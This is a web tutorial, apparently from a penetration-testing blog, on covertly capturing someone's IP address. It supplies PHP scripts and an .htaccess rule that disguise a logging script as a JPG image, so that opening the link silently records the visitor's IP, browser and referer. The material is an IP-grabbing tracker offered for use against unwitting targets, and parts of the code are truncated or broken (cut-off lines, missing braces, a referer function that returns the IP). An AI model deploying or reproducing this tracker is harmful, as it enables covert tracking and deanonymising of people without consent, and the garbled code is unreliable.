Penetration TestingProtection

How to Steal IP Address via Image

Today we are going to steal someone’s IP Address by sending them an image URL,In this article, we’re going to steal someone’s IP Address through an image URL, that can be hosted on any freeweb hosting or VPS.

How to Steal IP Address via Image


Create a file name functions.php


<?php function getBrowser() { if (isset($_SERVER['HTTP_USER_AGENT']) && !empty($_SERVER['HTTP_USER_AGENT'])) { return $_SERVER['HTTP_USER_AGENT']; } else { return "Unknown User-Agent"; } }function getIP() {

if (function_exists('apache_request_headers')) {

$headers = apache_request_headers();

} else {

$headers = $_SERVER;


if ( array_key_exists( 'X-Forwarded-For', $headers ) && filter_var( $headers['X-Forwarded-For'], FILTER_VALIDATE_IP, FILTER$

return $headers['X-Forwarded-For'];

} elseif ( array_key_exists( 'HTTP_X_FORWARDED_FOR', $headers ) && filter_var( $headers['HTTP_X_FORWARDED_FOR'], FILTER_VAL$

return $headers['HTTP_X_FORWARDED_FOR'];

} else {




function getReferer() { if (isset($_SERVER['HTTP_REFERER']) && !empty($_SERVER['REMOTE_ADDR'])) { return $_SERVER['REMOTE_ADDR']; } else { return "Unknown Referer"; } } ?>Create another file named log.php

<?php include 'functions.php';$browser = getBrowser();

$date    = date ('m/j/y g:i A');

$ip      = getIP();

$referer = getReferer();

$log     = fopen('logs.txt', 'a'); fwrite($log, '['.$date.']'.$browser.'|'.$ip.'|'.$referer."rn"); fclose($log); echo '<img src="birdy.jpg">'; ?>


Create a file named .htaccess

Options All -Indexes

RewriteEngine on RewriteRule ^bird.jpg$ log.php

<Files *.txt> Order Deny,Allow Deny from all </Files>

<files ~ "^.*.([Hh][Tt][Aa])"> order allow,deny deny from all satisfy all </files>1. Create an empty text file, and name it logs.txt
  2. Create an empty text file, and rename it to bird.jpg
  3. Upload a JPG file as birdy.jpg

Note: These can be named anything you want, this is just an example.

Anytime someone goes to bird.jpg on your server, it will load log.php, but the URL will still show as bird.jpg

The log.php file will take the user’s information, save it to a text file, and display birdy.jpg so that when we link the person, an actual image will still show.

No one will be able to access the logs.txt file. The only way to read it would be to log in to your host/VPS and view it from there, so your logs are secured.

Note: The .htaccess file is essential for this to work. The .htaccess file is also protected so that no one can view it. I suggest you test the script out yourself and ensure you have your webserver properly setup to use .htaccess files, because I know some webservers and hosts do not have .htaccess files enabled by default. PM me if you need helpsetting this up.

Related Articles

Back to top button